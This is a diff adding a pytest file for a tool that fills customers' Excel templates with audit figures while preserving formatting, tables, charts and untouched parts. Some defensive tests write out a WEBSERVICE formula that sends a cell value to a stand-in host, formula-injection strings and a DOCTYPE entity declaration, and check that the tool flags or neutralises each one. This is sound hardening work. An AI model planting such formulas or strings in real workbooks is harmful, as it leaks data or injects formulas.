@@ -1,0 +1,444 @@
+"""A customer's own workbook is filled, and nothing else about it changes."""
+
+import re
+import warnings
+import zipfile
+from dataclasses import replace
+
+import openpyxl
+import pytest
+
+from reviewer_audit.errors import OutputError
+from reviewer_audit.render.template import Template
+from reviewer_audit.render.template_fill import fill
+from reviewer_audit.render.template_starter import write_starter
+from reviewer_audit.reports.build import scope_of
+from reviewer_audit.reports.template import NAMES, Filling
+from reviewer_audit.reports.template_tables import TABLES, field_of, filling
+from tests.spreadsheets import by_libreoffice
+from tests.unit.render import templates
+from tests.unit.render.hostile import PAYLOADS
+from tests.unit.reports import made
+
+
+@pytest.fixture(scope="module")
+def results():
+    return made.results(errors=made.errors(40))
+
+
+@pytest.fixture
+def rich(tmp_path):
+    return templates.rich(tmp_path / "ours.xlsx")
+
+
+def filled_with(results, **more):
+    return filling(scope_of(results, **more), ("2026-09-07", "2026-09-13"))
+
+
+def look(path, values, **more):
+    return Template(path.read_bytes(), path.name).look(values, **more)
+
+
+def write(path, values):
+    out = path.with_name("filled.xlsx")
+    fill(Template(path.read_bytes(), path.name), values, out)
+    return out
+
+
+def queues(count):
+    """Figures for a table of so many queues."""
+    rows = [
+        {"name": f"Queue {k}", "accuracy": 0.9, "accuracy_low": 0.8, "accuracy_high": 0.95,
+         "accuracy_n": 100 + k} for k in range(count)
+    ]  # fmt: skip
+    return Filling(
+        figures={"ra_vendor": "Northgate", "ra_accuracy": 0.9},
+        tables={"ra_slices_queue": tuple(rows)},
+    )
+
+
+def test_that_named_cells_hold_the_figures_and_keep_their_looks(rich, results):
+    sheet = templates.cells_of(write(rich, filled_with(results, vendor="Northgate")))
+    own = results.by["vendor"]["Northgate"]["accuracy"]
+    assert sheet["A1"].value == "Northgate"
+    assert sheet["A1"].font.name == "Georgia"
+    assert sheet["A1"].quotePrefix
+    assert sheet["A2"].value == "Provisional until the round is closed"
+    found = [sheet[at].value for at in ("B3", "C3", "D3", "E3")]
+    assert found == [own.value, own.low, own.high, own.n]
+    assert sheet["B3"].number_format == "0.00%"
+    assert sheet["B3"].fill.start_color.rgb.endswith("FFEE99")
+
+
+def test_that_a_table_takes_the_rows_there_are_and_its_rules_follow(rich):
+    out = write(rich, queues(7))
+    sheet = templates.cells_of(out)
+    assert sheet.tables["ra_slices_queue"].ref == "A10:F17"
+    assert [sheet.cell(row, 1).value for row in range(11, 18)] == [f"Queue {k}" for k in range(7)]
+    assert {sheet.cell(row, 2).number_format for row in range(11, 18)} == {"0.0%"}
+    fills = [sheet.cell(row, 2).fill.start_color.rgb[-6:] for row in range(11, 15)]
+    assert fills == ["DDEEFF", "FFFFFF", "DDEEFF", "FFFFFF"]
+    own = "=ra_slices_queue[[#This Row],[Accuracy n]]-1"
+    assert [sheet.cell(row, 6).value for row in (11, 17)] == [own, own]
+    assert sheet["H1"].value == "=SUM(B11:B17)"
+    assert [str(one.sqref) for one in sheet.conditional_formatting] == ["B11:B17"]
+    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == [
+        "G11:G12",
+        "B11:B17",
+    ]
+    assert sheet.print_area == "'Card'!$A$1:$G$17"
+    parts = templates.parts_of(out)
+    chart = parts["xl/charts/chart1.xml"].decode()
+    assert re.findall(r"<f>(.*?)</f>", chart) == [
+        "'Card'!B10",
+        "'Card'!$A$11:$A$17",
+        "'Card'!$B$11:$B$17",
+    ]
+    sparkline = parts["xl/worksheets/sheet1.xml"].decode()
+    assert "<xm:f>Card!B11:B17</xm:f><xm:sqref>H2</xm:sqref>" in sparkline
+
+
+@pytest.mark.parametrize("apart", [False, True])
+def test_that_a_table_with_fewer_rows_leaves_none_behind(rich, apart):
+    if apart:
+        templates.shared(rich)
+    out = write(rich, queues(1))
+    sheet = templates.cells_of(out)
+    assert sheet.tables["ra_slices_queue"].ref == "A10:F11"
+    assert [cell.value for cell in sheet[12]] == [None] * len(sheet[12])
+    assert sheet["C10"].value == "Accuracy low"
+    assert "last time" not in b"".join(templates.parts_of(out).values()).decode("utf-8", "replace")
+
+
+def test_that_a_table_without_rows_says_so(rich):
+    sheet = templates.cells_of(write(rich, queues(0)))
+    assert [cell.value for cell in sheet[11]][:3] == ["none", None, None]
+    empty = Filling(figures={}, tables={})
+    sheet = templates.cells_of(write(rich, empty))
+    assert sheet["A11"].value == "not in this edition"
+    assert sheet["B3"].value == "n/a"
+
+
+def test_that_a_row_of_totals_moves_with_the_table(tmp_path):
+    def change(book):
+        sheet = book["Card"]
+        sheet["E13"] = "=SUBTOTAL(109,ra_slices_queue[Accuracy n])"
+        table = sheet.tables["ra_slices_queue"]
+        table.ref, table.totalsRowCount = "A10:F13", 1
+        sheet["H2"] = "=E13"
+
+    path = templates.rich(tmp_path / "totals.xlsx", change)
+    for rows, at in ((5, 16), (1, 12), (2, 13)):
+        sheet = templates.cells_of(write(path, queues(rows)))
+        assert sheet.cell(at, 5).value == "=SUBTOTAL(109,ra_slices_queue[Accuracy n])"
+        assert sheet.tables["ra_slices_queue"].ref == f"A10:F{at}"
+        assert sheet["H2"].value == f"=E{at}"
+        assert [sheet.cell(row, 5).value for row in range(at + 1, 20)] == [None] * (19 - at)
+
+
+def test_that_what_nobody_fills_keeps_every_byte(rich, results):
+    before = templates.parts_of(rich)
+    after = templates.parts_of(write(rich, filled_with(results)))
+    assert after.keys() == before.keys()
+    same = {name for name in before if before[name] == after[name]}
+    assert before.keys() - same <= {
+        "[Content_Types].xml", "xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml",
+        "xl/tables/table1.xml", "xl/charts/chart1.xml", "xl/worksheets/sheet2.xml",
+    }  # fmt: skip
+    assert {"xl/media/image1.png", "xl/drawings/drawing1.xml", "xl/theme/theme1.xml"} <= same
+    assert b"Our motto" in after["xl/drawings/drawing1.xml"]
+    kept = after["xl/worksheets/sheet1.xml"].decode()
+    old = before["xl/worksheets/sheet1.xml"].decode()
+    for name in ("cols", "pageSetup", "headerFooter", "sheetViews", "mergeCells", "drawing"):
+        (own,) = re.findall(rf"<{name}\b.*?(?:</{name}>|/>)", old)[:1]
+        assert own.replace(" />", "/>") in kept.replace(" />", "/>"), name
+
+
+def test_that_old_values_of_formulas_and_charts_do_not_stay(rich):
+    templates.rewrite(
+        rich,
+        {
+            "xl/worksheets/sheet1.xml": lambda t: t.replace(
+                "<f>B3*100</f><v />", "<f>B3*100</f><v>93</v>"
+            ).replace("<f>B3*100</f><v></v>", "<f>B3*100</f><v>93</v>"),
+            "xl/charts/chart1.xml": lambda t: t.replace(
+                "</f></numRef>",
+                "</f><numCache><ptCount val='1'/><pt idx='0'><v>0.5</v></pt></numCache></numRef>",
+            ),
+        },
+    )
+    assert b"<v>93</v>" in templates.parts_of(rich)["xl/worksheets/sheet1.xml"]
+    after = templates.parts_of(write(rich, queues(2)))
+    assert b"<f>B3*100</f></c>" in after["xl/worksheets/sheet1.xml"]
+    assert b"numCache" not in after["xl/charts/chart1.xml"]
+    assert b'fullCalcOnLoad="1"' in after["xl/workbook.xml"]
+
+
+@pytest.mark.parametrize("what", ["cell", "chart", "merged", "name"])
+def test_that_nothing_below_a_table_is_written_over(tmp_path, what):
+    def change(book):
+        sheet = book["Card"]
+        if what == "cell":
+            sheet["C15"] = "keep me"
+        elif what == "chart":
+            sheet._charts[0].anchor = "B15"
+        elif what == "merged":
+            sheet.merge_cells("A14:B14")
+        else:
+            templates.named(book, "ra_round", "Card!$D$14")
+
+    path = templates.rich(tmp_path / "full.xlsx", change)
+    assert look(path, queues(2)).errors == ()
+    (error,) = look(path, queues(9)).errors
+    assert "ra_slices_queue needs 9 rows" in error
+
+
+@pytest.mark.parametrize(
+    ("name", "place", "said"),
+    [
+        ("ra_acuracy", "Card!$H$9", "ra_acuracy is none of the names"),
+        ("ra_errors", "Card!$H$9", "is the name of a table"),
+        ("ra_round", "Card!#REF!", "names no cell"),
+        ("ra_round", "'Gone'!$A$1", "names no cell"),
+        ("ra_round", '"a text"', "names no cell"),
+        ("ra_round", "Card!$H$4:$I$5", "names several cells"),
+        ("ra_round", "Card!$F$3", "holds a formula"),
+    ],
+)
+def test_that_a_wrong_name_is_an_error_and_never_guessed(tmp_path, name, place, said):
+    path = templates.rich(tmp_path / "wrong.xlsx", lambda book: templates.named(book, name, place))
+    (error,) = look(path, queues(2)).errors
+    assert said in error
+
+
+def test_that_a_merged_cell_can_be_named_whole(tmp_path):
+    path = templates.rich(
+        tmp_path / "merged.xlsx", lambda book: templates.named(book, "ra_round", "Card!$A$5:$D$5")
+    )
+    values = replace(queues(2), figures={"ra_round": "Week 37"})
+    assert look(path, values).errors == ()
+    assert templates.cells_of(write(path, values))["A5"].value == "Week 37"
+
+
+def test_that_a_wrong_table_is_an_error_and_a_column_of_ones_own_stays_empty(tmp_path):
+    def rename(text):
+        return text.replace('"ra_slices_queue"', '"ra_queues"')
+
+    path = templates.rich(tmp_path / "t.xlsx")
+    templates.rewrite(path, {"xl/tables/table1.xml": rename})
+    assert look(path, queues(2)).errors == ("ra_queues is none of the tables that can be filled.",)
+    path = templates.rich(tmp_path / "u.xlsx")
+    templates.rewrite(
+        path, {"xl/tables/table1.xml": lambda t: t.replace('"Accuracy high"', '"Upper"')}
+    )
+    seen = look(path, queues(2))
+    assert seen.errors == ()
+    assert any("Upper names no field" in one for one in seen.warnings)
+    assert any(
+        "accuracy stands in the table ra_slices_queue without accuracy_high" in one
+        for one in seen.warnings
+    )
+    assert templates.cells_of(write(path, queues(2)))["D11"].value is None
+
+
+def test_that_a_rate_without_n_and_interval_is_warned_of(tmp_path):
+    def change(book):
+        del book.defined_names["ra_accuracy_n"]
+        templates.named(book, "ra_accuracy_low", "Notes!$B$2")
+
+    path = templates.rich(tmp_path / "alone.xlsx", change)
+    (said,) = look(path, queues(2)).warnings
+    assert said == "ra_accuracy stands on the sheet Card without ra_accuracy_n, ra_accuracy_low."
+    whole = templates.rich(tmp_path / "whole.xlsx")
+    assert look(whole, queues(2)).warnings == ()
+
+
+def test_that_what_does_not_follow_is_named_before(tmp_path, rich):
+    assert look(rich, queues(2)).losses == ()
+    assert "1 chart" in look(rich, queues(2)).kept
+    assert "1 picture" in look(rich, queues(2)).kept
+    assert "1 shape" in look(rich, queues(2)).kept
+    odd = {
+        "xl/pivotCache/pivotCacheRecords1.xml": "Pivot tables",
+        "xl/vbaProject.bin": "Macros",
+        "xl/externalLinks/externalLink1.xml": "other workbooks",
+        "xl/slicers/slicer1.xml": "Slicers",
+        "xl/connections.xml": "Queries",
+        "xl/embeddings/oleObject1.bin": "embedded objects",
+        "xl/revisions/revisionLog1.xml": "history",
+        "_xmlsignatures/sig1.xml": "signature",
+    }
+    templates.rewrite(rich, {}, dict.fromkeys(odd, b"<x/>"))
+    losses = look(rich, queues(2)).losses
+    assert len(losses) == len(odd)
+    for word in odd.values():
+        assert any(word in text for text in losses), word
+    after = templates.parts_of(write(rich, queues(2)))
+    assert "_xmlsignatures/sig1.xml" not in after
+    assert "xl/vbaProject.bin" in after
+
+
+def test_that_a_formula_that_sends_figures_elsewhere_is_named(tmp_path):
+    def change(book):
+        book["Card"]["H5"] = '=_xlfn.WEBSERVICE("http://example.invalid/?"&B3)'
+
+    path = templates.rich(tmp_path / "sends.xlsx", change)
+    assert any("Card!H5" in text for text in look(path, queues(2)).losses)
+
+
+def test_that_numbers_of_an_open_round_want_their_stamp(tmp_path, rich):
+    path = templates.rich(tmp_path / "x.xlsx", lambda book: book.defined_names.pop("ra_stamp"))
+    assert any("ra_stamp" in text for text in look(path, queues(2), provisional=True).losses)
+    assert look(path, queues(2)).losses == ()
+    assert look(rich, queues(2), provisional=True).losses == ()
+
+
+@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
+def test_that_no_text_becomes_a_formula_or_breaks_the_file(rich, text):
+    formulas = ("=1+1", "+1", "-1", "@x", '=HYPERLINK("http://x.invalid")', "{=1}", "_x0041_")
+    for payload in (text, *formulas):
+        rows = ({"name": payload},)
+        out = write(rich, Filling(figures={"ra_vendor": payload}, tables={"ra_slices_queue": rows}))
+        with zipfile.ZipFile(out) as book:
+            xml = book.read("xl/worksheets/sheet1.xml").decode()
+        assert xml.count("<f>") == 3  # the template's own
+        assert "hyperlink" not in xml
+        cell = templates.cells_of(out)["A1"]
+        assert cell.data_type in {"s", "inlineStr", "n"}
+        if (
+            payload
+            and not any(ord(c) < 32 or ord(c) > 0xFFF for c in payload)
+            and len(payload) < 99
+        ):
+            assert cell.quotePrefix
+            assert cell.value == payload.replace("_x0041_", "_x005F_x0041_")
+
+
+@pytest.mark.parametrize("edition", ["vendor-safe", "training", "regulator"])
+def test_that_an_edition_fills_nothing_it_must_not_hold(tmp_path, results, edition):
+    path = tmp_path / "every.xlsx"
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row, name in enumerate(NAMES, start=1):
+        templates.named(book, name, f"Sheet!$A${row}")
+    for place, table in enumerate(TABLES.values()):
+        own = book.create_sheet(f"T{place}")
+        for column, field in enumerate(table.fields, start=1):
+            own.cell(1, column, field)
+        end = openpyxl.utils.get_column_letter(len(table.fields))
+        own.add_table(openpyxl.worksheet.table.Table(displayName=table.name, ref=f"A1:{end}2"))
+    book.save(path)
+    vendor = "Southbank" if edition == "vendor-safe" else ""
+    hidden = ["Northgate", "Riverline", "R-0", "Amira", "Jonas", "1234567890123456"]
+    if edition != "vendor-safe":
+        hidden += ["Southbank", "2026-09-"]
+    else:
+        hidden.remove("1234567890123456")  # its own decisions
+
+    def call(role, name):
+        return f"{role} {sum(map(ord, name))}"
+
+    def all_parts(values):
+        out = write(path, values)
+        return "\n".join(
+            part.decode("utf-8", "replace") for part in templates.parts_of(out).values()
+        )
+
+    internal = all_parts(filled_with(results))
+    assert not [word for word in hidden[:3] if word not in internal]
+    text = all_parts(filled_with(results, vendor=vendor, edition=edition, call=call))
+    assert not [word for word in hidden if word in text]
+    assert sheet.title == "Sheet"
+
+
+def test_that_an_old_file_stays_where_writing_fails(rich, monkeypatch):
+    out = write(rich, queues(2))
+    before = out.read_bytes()
+
+    def full(*_args):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("os.fsync", full)
+    with pytest.raises(OutputError):
+        write(rich, queues(5))
+    monkeypatch.undo()
+    assert out.read_bytes() == before
+    assert sorted(p.name for p in out.parent.iterdir()) == ["filled.xlsx", "ours.xlsx"]
+
+
+def test_that_a_document_type_is_refused(rich):
+    templates.rewrite(
+        rich,
+        {
+            "xl/worksheets/sheet1.xml": lambda t: (
+                '<!DOCTYPE x [<!ENTITY a "b">]>' + t.partition("?>")[2]
+            )
+        },
+    )
+    with pytest.raises(OutputError, match="sheet1"):
+        look(rich, queues(2))
+
+
+def test_that_a_broken_part_is_an_error_in_words(rich):
+    templates.rewrite(rich, {"xl/tables/table1.xml": lambda t: t.replace("A10:F12", "nowhere")})
+    with pytest.raises(OutputError, match="cannot be read as a workbook"):
+        look(rich, queues(2))
+
+
+def test_that_a_workbook_with_prefixed_names_is_filled(rich):
+    templates.prefixed(rich)
+    sheet = templates.cells_of(write(rich, queues(4)))
+    assert sheet["A1"].value == "Northgate"
+    assert sheet["A14"].value == "Queue 3"
+
+
+def test_that_excels_own_templates_become_workbooks(rich):
+    kind = "spreadsheetml.sheet.main+xml"
+    templates.rewrite(
+        rich,
+        {
+            "[Content_Types].xml": lambda t: t.replace(
+                kind, kind.replace("sheet.main", "template.main")
+            )
+        },
+    )
+    types = templates.parts_of(write(rich, queues(2)))["[Content_Types].xml"].decode()
+    assert kind in types
+    assert "template" not in types
+
+
+def test_that_headings_are_read_as_people_write_them():
+    assert field_of("Accuracy low") == field_of(" accuracy_LOW ") == "accuracy_low"
+
+
+def test_that_every_table_gives_the_fields_it_declares(results):
+    for call in (None, lambda role, name: f"{role} {len(name)}"):
+        found = filled_with(results, call=call)
+        assert found.figures.keys() == NAMES.keys()
+        for name, rows in found.tables.items():
+            for row in rows:
+                assert row.keys() == TABLES[name].fields.keys(), name
+
+
+def test_that_the_starter_is_filled_without_a_word(tmp_path, results):
+    write_starter(tmp_path / "starter.xlsx")
+    seen = look(tmp_path / "starter.xlsx", filled_with(results), provisional=True)
+    assert (seen.errors, seen.losses, seen.warnings) == ((), (), ())
+    book = openpyxl.load_workbook(write(tmp_path / "starter.xlsx", filled_with(results)))
+    assert book["Errors"].tables["ra_errors"].ref == "A3:J43"
+    assert book["Scorecard"]["B11"].value == results.overall["accuracy"].value
+
+
+@pytest.mark.slow
+def test_that_libreoffice_opens_and_computes_a_filled_file(rich, results):
+    out = write(rich, filled_with(results, vendor="Northgate"))
+    saved = by_libreoffice(out, out.parent)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)
+        sheet = openpyxl.load_workbook(saved, data_only=True)["Card"]
+    own = results.by["vendor"]["Northgate"]["accuracy"]
+    assert sheet["F3"].value == pytest.approx(own.value * 100)
+    assert sheet["H1"].value > 0
+    assert sheet["F11"].value == sheet["E11"].value - 1
+    every = [cell.value for row in sheet.iter_rows() for cell in row]
+    assert not [v for v in every if isinstance(v, str) and v.startswith("#")]
